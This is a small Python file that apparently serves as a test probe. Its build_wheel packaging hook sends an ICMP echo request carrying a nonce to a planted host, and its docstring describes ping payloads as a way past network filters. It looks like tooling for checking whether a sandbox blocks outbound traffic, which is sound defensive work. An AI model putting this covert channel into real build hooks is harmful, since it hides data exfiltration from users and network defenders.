"""Pings a host, and puts what it has to say into the ping.

An echo request may carry any bytes, and the host sends them back without asking. Filters
let it pass because somebody needs it to find out whether a machine is alive.
"""

import socket
import struct

import kit

ECHO_REQUEST = 8


def checksum(packet):
    words = struct.unpack(f"!{len(packet) // 2}H", packet)
    folded = sum(words) % 0xFFFF
    return ~folded & 0xFFFF


def echo_request(payload):
    zero = struct.pack("!BBHHH", ECHO_REQUEST, 0, 0, 1, 1) + payload
    return struct.pack("!BBHHH", ECHO_REQUEST, 0, checksum(zero), 1, 1) + payload


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("ping"):
        request = echo_request(kit.nonce.encode())
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
            out.sendto(request, (kit.plant("host").address, 0))
    return kit.wheel(wheel_directory)
